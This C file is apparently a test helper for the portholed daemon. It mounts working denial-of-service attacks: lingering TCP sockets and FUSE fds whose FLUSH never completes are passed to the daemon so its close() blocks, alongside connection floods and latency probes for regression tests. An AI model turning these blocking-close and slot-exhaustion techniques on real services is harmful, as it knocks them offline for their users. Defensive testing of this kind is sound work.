/* SPDX-License-Identifier: ISC */
/*
 * ph-daemonattack.c - the attacks of issue 9 items 3, 4 and 5 on
 * portholed, for tests/root/32-daemon-attacks.sh, plus the probes that
 * measure what a granted user sees meanwhile.
 *
 *   ph-daemonattack -d SOCK linger N SECONDS
 *       N times: a TCP socket connected to a sink of ours that never
 *       reads, SO_LINGER {1, 3600}, its send queue full; sent to the
 *       daemon (as a bind request's fd; on a zero-length message ahead of
 *       a request; queued and left unread on a connection we then close),
 *       our copy closed (aborted, if it did not get there); spread over
 *       30 s.  Then hold the sinks (so that those sockets keep
 *       lingering) until SECONDS.  Prints pid=N first, then sent=N.
 *   ph-daemonattack lingerclose
 *       the control: one such socket, whose last close runs in a child;
 *       prints close_ms=MS (capped: 1500 means it was still blocked).
 *   ph-daemonattack -d SOCK fuse DIR N SECONDS UID:GID
 *       as root: a private mount namespace, a FUSE file system at DIR
 *       whose one file "f" opens, and whose FLUSH is never answered
 *       (but to our own client); a client as UID:GID sends N fds of
 *       DIR/f to the daemon, as above, then the file system stays up
 *       for SECONDS.  First the control: a child of ours closes one fd
 *       of DIR/f; prints control_close_ms=MS (1500: blocked).  Prints
 *       sent=N flush_held=N (FLUSHes from others than our client).
 *   ph-daemonattack -d SOCK probe N PORT [GAP_MS]
 *       N granted binds of 127.0.0.1:PORT, each on a new connection,
 *       GAP_MS (default 20) apart; prints granted=N within100=N max_ms=MS.
 *   ph-daemonattack -d SOCK slots N SECONDS
 *       hold N connections for SECONDS: reconnect each one the daemon
 *       closes, send a bind request on each every 5 s.  Prints
 *       connects=N.
 *   ph-daemonattack -d SOCK connect SECONDS
 *       connect(), send a bind request, close, in a loop; prints
 *       connects=N.
 *
 * Exit 0 when the attack ran, 2 on usage errors, 3 when it could not
 * be set up.
 */
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>

#include <arpa/inet.h>
#include <linux/fuse.h>
#include <netinet/in.h>

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "private.h"
#include "testlib.h"

static const char	*sock_path;

static int
daemon_connect(void)
{
	const char	*what;

	return unix_connect(sock_path, SOCK_SEQPACKET, &what);
}

static void
bind_req(struct ph_msg_bind *m, uint16_t port, uint32_t id)
{
	memset(m, 0, sizeof(*m));
	ph__hdr_init(&m->hdr, PH_MSG_BIND, sizeof(*m), id);
	m->family = AF_INET;
	m->backlog = 16;
	m->addr[0] = 127;
	m->addr[3] = 1;
	m->port = port;
}

/* Send len bytes (0 allowed) and fd (-1: none) in one message. */
static int
send_fd(int s, const void *buf, size_t len, int fd)
{
	return send_fds(s, buf, len, &fd, fd >= 0,
	    MSG_NOSIGNAL | MSG_DONTWAIT) == (ssize_t)len ? 0 : -1;
}

/* Wait up to ms for a reply; its error (>= 0), or -1 for none. */
static int
read_reply(int s, int ms)
{
	struct ph_msg_reply	r;
	struct pollfd		p = { .fd = s, .events = POLLIN };
	ssize_t			n;

	if (poll(&p, 1, ms) != 1)
		return -1;
	n = recv(s, &r, sizeof(r), MSG_DONTWAIT);
	if (n != (ssize_t)sizeof(r))
		return -1;
	return r.error;
}

/*
 * Close our copy of fd; if it never reached the daemon (`sent` 0), ours
 * is the last one and a lingering socket would block us: abort it.
 */
static void
drop_copy(int fd, int sent)
{
	struct linger	lg = { 1, 0 };

	if (!sent)
		(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
	close(fd);
}

/* Three ways to get fd to the daemon (consumed); `how` picks one. */
static void
deliver(int fd, int how, uint32_t id)
{
	struct ph_msg_bind	m;
	int			s, ok;

	bind_req(&m, 80, id);
	if ((s = daemon_connect()) == -1) {
		drop_copy(fd, 0);
		return;
	}
	switch (how % 3) {
	case 0:		/* the bind request's socket */
		ok = send_fd(s, &m, sizeof(m), fd) == 0;
		drop_copy(fd, ok);
		(void)read_reply(s, 2000);
		break;
	case 1:		/* a zero-length message first: reads as EOF */
		ok = send_fd(s, "", 0, fd) == 0;
		drop_copy(fd, ok);
		(void)send_fd(s, &m, sizeof(m), -1);
		(void)read_reply(s, 50);
		break;
	default:	/* queued behind a request, never read */
		(void)send_fd(s, &m, sizeof(m), -1);
		ok = send_fd(s, &m, sizeof(m), fd) == 0;
		drop_copy(fd, ok);
		(void)read_reply(s, 50);
		break;
	}
	close(s);
}

/* A TCP socket connected to `sink` (a listener of ours that never
 * reads), with SO_LINGER {1, 3600} and a full send queue.  The accepted
 * end is kept open in *peer. */
static int
lingering_socket(int sink, int *peer)
{
	struct sockaddr_in	sin;
	socklen_t		sl = sizeof(sin);
	struct linger		lg = { 1, 3600 };
	char			junk[65536];
	int			s, one = 1;

	if (getsockname(sink, (struct sockaddr *)&sin, &sl) == -1)
		setup_fail("getsockname");
	if ((s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1)
		setup_fail("socket");
	if (connect(s, (struct sockaddr *)&sin, sizeof(sin)) == -1)
		setup_fail("connect to the sink");
	if ((*peer = accept4(sink, NULL, NULL, SOCK_CLOEXEC)) == -1)
		setup_fail("accept");
	if (setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg)) == -1)
		setup_fail("SO_LINGER");
	(void)setsockopt(s, IPPROTO_TCP, 1 /* TCP_NODELAY */, &one,
	    sizeof(one));
	memset(junk, 'x', sizeof(junk));
	while (send(s, junk, sizeof(junk), MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
		;
	return s;
}

static int
make_sink(void)
{
	struct sockaddr_in	sin;
	int			s, small = 4096;

	if ((s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1)
		setup_fail("socket");
	/* inherited by the accepted sockets: their window stays small */
	(void)setsockopt(s, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) == -1 ||
	    listen(s, 4096) == -1)
		setup_fail("sink");
	return s;
}

static int
do_linger(int n, int secs)
{
	long long	t0 = now_ms(), ahead;
	int		sink = make_sink(), *peers, i, s;

	if ((peers = calloc((size_t)n, sizeof(int))) == NULL)
		setup_fail("calloc");
	printf("pid=%ld\n", (long)getpid());	/* for the test to end us */
	fflush(stdout);
	/* spread over the first 30 s, so that a 30 s probe overlaps */
	for (i = 0; i < n; i++) {
		s = lingering_socket(sink, &peers[i]);
		deliver(s, i, (uint32_t)i + 1);
		ahead = t0 + (i + 1) * 30000LL / n - now_ms();
		if (ahead > 0)
			usleep((useconds_t)ahead * 1000);
	}
	printf("sent=%d\n", n);
	fflush(stdout);
	if (secs > 30)
		sleep((unsigned)secs - 30);
	return 0;
}

/* Run close(fd) in a child; how long it took, at most cap ms. */
static long long
timed_close(int fd, int cap)
{
	long long	t0 = now_ms(), t;
	pid_t		pid;
	int		st;

	if ((pid = fork()) == -1)
		setup_fail("fork");
	if (pid == 0) {
		(void)close(fd);
		_exit(0);
	}
	/* Ours stays open: FUSE sends FLUSH on every close, not only the
	 * last, so closing it here would block us too. */
	for (;;) {
		if (waitpid(pid, &st, WNOHANG) == pid)
			return now_ms() - t0;
		if ((t = now_ms() - t0) >= cap) {
			(void)kill(pid, SIGKILL);
			return cap;	/* reaped by whoever ends us */
		}
		usleep(10000);
	}
}

static int
do_lingerclose(void)
{
	int	sink = make_sink(), peer = -1, s, go[2];
	pid_t	pid;
	char	c;

	s = lingering_socket(sink, &peer);
	if (pipe2(go, O_CLOEXEC) == -1)
		setup_fail("pipe");
	/*
	 * The child's close must be the last: it waits until ours is done
	 * (EOF on the pipe).  Without the wait the two raced, and when the
	 * child closed first, ours was the last and blocked this program.
	 */
	if ((pid = fork()) == 0) {
		long long	t0;

		(void)close(go[1]);
		while (read(go[0], &c, 1) == -1 && errno == EINTR)
			;
		t0 = now_ms();
		(void)close(s);
		printf("close_ms=%lld\n", now_ms() - t0);
		_exit(0);
	}
	if (pid == -1)
		setup_fail("fork");
	(void)close(go[0]);
	(void)close(s);
	(void)close(go[1]);
	usleep(1500 * 1000);
	if (kill(pid, 0) == 0) {
		printf("close_ms=1500\n");
		(void)kill(pid, SIGKILL);
	}
	(void)waitpid(pid, NULL, 0);
	return 0;
}

/* ---- a FUSE file system that never answers FLUSH ------------------ */

static void
fuse_reply(int fd, uint64_t unique, int error, const void *p, size_t len)
{
	struct fuse_out_header	h;
	char			buf[sizeof(h) + 256];

	h.len = (uint32_t)(sizeof(h) + len);
	h.error = -error;
	h.unique = unique;
	memcpy(buf, &h, sizeof(h));
	if (len > 0)
		memcpy(buf + sizeof(h), p, len);
	(void)!write(fd, buf, h.len);
}

static void
fuse_attr(struct fuse_attr *a, uint64_t node)
{
	memset(a, 0, sizeof(*a));
	a->ino = node;
	a->mode = node == 1 ? (S_IFDIR | 0755) : (S_IFREG | 0666);
	a->nlink = node == 1 ? 2 : 1;
}

/* Serve until killed; FLUSHes from anyone but `ours` are held.  Each
 * held one is reported as a line "held" on `report`. */
static void __attribute__((noreturn))
fuse_serve(int fd, pid_t ours, int report)
{
	static char		buf[FUSE_MIN_READ_BUFFER + 131072];
	struct fuse_in_header	*in = (struct fuse_in_header *)buf;
	ssize_t			n;

	for (;;) {
		n = read(fd, buf, sizeof(buf));
		if (n == -1 && (errno == EINTR || errno == ENOENT))
			continue;
		if (n < (ssize_t)sizeof(*in))
			_exit(0);
		switch (in->opcode) {
		case FUSE_INIT: {
			struct fuse_init_in	*ii = (void *)(in + 1);
			struct fuse_init_out	 o;

			memset(&o, 0, sizeof(o));
			o.major = FUSE_KERNEL_VERSION;
			o.minor = ii->minor < FUSE_KERNEL_MINOR_VERSION ?
			    ii->minor : FUSE_KERNEL_MINOR_VERSION;
			o.max_readahead = ii->max_readahead;
			o.max_write = 65536;
			fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out	o;

			if (in->nodeid != 1 || strcmp((char *)(in + 1), "f")) {
				fuse_reply(fd, in->unique, ENOENT, NULL, 0);
				break;
			}
			memset(&o, 0, sizeof(o));
			o.nodeid = 2;
			o.entry_valid = 3600;
			o.attr_valid = 3600;
			fuse_attr(&o.attr, 2);
			fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out	o;

			memset(&o, 0, sizeof(o));
			o.attr_valid = 3600;
			fuse_attr(&o.attr, in->nodeid);
			fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_OPEN:
		case FUSE_OPENDIR: {
			struct fuse_open_out	o;

			memset(&o, 0, sizeof(o));
			o.fh = 1;
			fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_FLUSH:
			if ((pid_t)in->pid == ours) {
				fuse_reply(fd, in->unique, 0, NULL, 0);
				break;
			}
			(void)!write(report, "held\n", 5);	/* never answered */
			break;
		case FUSE_RELEASE:
		case FUSE_RELEASEDIR:
			fuse_reply(fd, in->unique, 0, NULL, 0);
			break;
		case FUSE_INTERRUPT:
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
			break;		/* no reply */
		default:
			fuse_reply(fd, in->unique, ENOSYS, NULL, 0);
			break;
		}
	}
}

static int
do_fuse(const char *dir, int n, int secs, uid_t uid, gid_t gid)
{
	char	opts[256], path[4096], line[64];
	FILE	*rep;
	pid_t	server, client;
	int	fd, rp[2], held = 0, i, f, st;

	if (unshare(CLONE_NEWNS) == -1 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1)
		setup_fail("private mount namespace");
	if ((fd = open("/dev/fuse", O_RDWR | O_CLOEXEC)) == -1)
		setup_fail("/dev/fuse");
	(void)snprintf(opts, sizeof(opts), "fd=%d,rootmode=40000,user_id=0,"
	    "group_id=0,allow_other", fd);
	if (pipe2(rp, O_CLOEXEC) == -1)
		setup_fail("pipe");
	/* The client's pid must be known to the server before it runs. */
	if ((client = fork()) == -1)
		setup_fail("fork");
	if (client == 0) {
		close(rp[0]);
		close(rp[1]);
		/* stopped until the file system is up; then become
		 * UID:GID and send */
		raise(SIGSTOP);
		if (setgroups(0, NULL) == -1 || setresgid(gid, gid, gid) == -1 ||
		    setresuid(uid, uid, uid) == -1)
			_exit(3);
		(void)snprintf(path, sizeof(path), "%s/f", dir);
		for (i = 0; i < n; i++) {
			if ((f = open(path, O_RDONLY | O_CLOEXEC)) == -1)
				_exit(3);
			/* deliver() closes our copy: that FLUSH is ours,
			 * and answered. */
			deliver(f, i, (uint32_t)i + 1);
		}
		_exit(0);
	}
	/* Mounted first: /dev/fuse reads fail (EPERM) until then. */
	if (mount("phhang", dir, "fuse.phhang", MS_NOSUID | MS_NODEV, opts)
	    == -1)
		setup_fail("mount fuse");
	if ((server = fork()) == -1)
		setup_fail("fork");
	if (server == 0) {
		close(rp[0]);
		(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
		fuse_serve(fd, client, rp[1]);
	}
	close(rp[1]);
	close(fd);
	rep = fdopen(rp[0], "r");
	/* The control: a close of DIR/f by another process blocks. */
	(void)snprintf(path, sizeof(path), "%s/f", dir);
	if ((f = open(path, O_RDONLY | O_CLOEXEC)) == -1)
		setup_fail("open DIR/f");
	printf("control_close_ms=%lld\n", timed_close(f, 1500));
	fflush(stdout);
	/* Now the client. */
	(void)waitpid(client, &st, WUNTRACED);
	(void)kill(client, SIGCONT);
	(void)waitpid(client, &st, 0);
	printf("sent=%d client=%d\n", n,
	    WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
	fflush(stdout);
	sleep((unsigned)secs);
	/* Count the FLUSHes held (the control's included). */
	(void)kill(server, SIGKILL);	/* ends the connection: every
					   held request fails, all unblock */
	(void)waitpid(server, NULL, 0);
	while (fgets(line, sizeof(line), rep) != NULL)
		held++;
	printf("flush_held=%d\n", held);
	(void)umount2(dir, MNT_DETACH);
	return 0;
}

/* ---- what a granted user sees, and floods ------------------------- */

static int
do_probe(int n, uint16_t port, int gap)
{
	struct ph_msg_bind	m;
	long long		t0, dt, max = 0;
	int			i, s, t, granted = 0, fast = 0, e;

	for (i = 0; i < n; i++) {
		if ((t = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1)
			setup_fail("socket");
		bind_req(&m, port, (uint32_t)i + 1);
		t0 = now_ms();
		e = -1;
		if ((s = daemon_connect()) >= 0) {
			if (send_fd(s, &m, sizeof(m), t) == 0)
				e = read_reply(s, 2000);
			close(s);
		}
		dt = now_ms() - t0;
		close(t);
		if (e == 0)
			granted++;
		if (e == 0 && dt <= 100)
			fast++;
		if (dt > max)
			max = dt;
		usleep((useconds_t)gap * 1000);
	}
	printf("granted=%d within100=%d max_ms=%lld\n", granted, fast, max);
	return 0;
}

static int
do_slots(int n, int secs)
{
	struct pollfd		*p;
	struct ph_msg_bind	 m;
	long long		 end = now_ms() + secs * 1000LL, *next;
	char			 b[256];
	int			 i, connects = 0, t;

	p = calloc((size_t)n, sizeof(*p));
	next = calloc((size_t)n, sizeof(*next));
	if (p == NULL || next == NULL)
		setup_fail("calloc");
	for (i = 0; i < n; i++)
		p[i].fd = -1;
	while (now_ms() < end) {
		for (i = 0; i < n; i++) {
			if (p[i].fd < 0) {
				p[i].fd = daemon_connect();
				p[i].events = POLLIN;
				next[i] = now_ms() + 5000;
				connects++;
			} else if (now_ms() >= next[i]) {
				t = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC,
				    0);
				bind_req(&m, 80, 1);
				(void)send_fd(p[i].fd, &m, sizeof(m), t);
				close(t);
				next[i] = now_ms() + 5000;
			}
		}
		(void)poll(p, (nfds_t)n, 50);
		for (i = 0; i < n; i++) {
			if (p[i].fd >= 0 && (p[i].revents & (POLLIN | POLLHUP))) {
				if (recv(p[i].fd, b, sizeof(b), MSG_DONTWAIT) <= 0) {
					close(p[i].fd);
					p[i].fd = -1;
				}
			}
			p[i].revents = 0;
		}
	}
	printf("connects=%d\n", connects);
	return 0;
}

static int
do_connect(int secs)
{
	long long	end = now_ms() + secs * 1000LL;
	int		s, connects = 0;

	struct ph_msg_bind	m;
	int			t;

	while (now_ms() < end) {
		if ((s = daemon_connect()) >= 0) {
			connects++;
			/* a request, then gone before the answer */
			if ((t = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC,
			    0)) >= 0) {
				bind_req(&m, 80, 1);
				(void)send_fd(s, &m, sizeof(m), t);
				close(t);
			}
			close(s);
		}
	}
	printf("connects=%d\n", connects);
	return 0;
}

static void __attribute__((noreturn))
usage(void)
{
	fprintf(stderr, "usage: ph-daemonattack [-d SOCK] linger N SECONDS | "
	    "lingerclose | fuse DIR N SECONDS UID:GID | probe N PORT | "
	    "slots N SECONDS | connect SECONDS\n");
	exit(2);
}

int
main(int argc, char **argv)
{
	unsigned	u, g;
	int		c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	{
		struct sigaction	sa;

		memset(&sa, 0, sizeof(sa));
		sa.sa_handler = SIG_IGN;
		(void)sigaction(SIGPIPE, &sa, NULL);
	}
	while ((c = getopt(argc, argv, "d:")) != -1) {
		if (c != 'd')
			usage();
		sock_path = optarg;
	}
	argc -= optind;
	argv += optind;
	if (argc < 1)
		usage();
	if (strcmp(argv[0], "linger") == 0 && argc == 3)
		return do_linger(atoi(argv[1]), atoi(argv[2]));
	if (strcmp(argv[0], "lingerclose") == 0 && argc == 1)
		return do_lingerclose();
	if (strcmp(argv[0], "fuse") == 0 && argc == 5 &&
	    sscanf(argv[4], "%u:%u", &u, &g) == 2)
		return do_fuse(argv[1], atoi(argv[2]), atoi(argv[3]), u, g);
	if (strcmp(argv[0], "probe") == 0 && (argc == 3 || argc == 4))
		return do_probe(atoi(argv[1]), (uint16_t)atoi(argv[2]),
		    argc == 4 ? atoi(argv[3]) : 20);
	if (strcmp(argv[0], "slots") == 0 && argc == 3)
		return do_slots(atoi(argv[1]), atoi(argv[2]));
	if (strcmp(argv[0], "connect") == 0 && argc == 2)
		return do_connect(atoi(argv[1]));
	usage();
}
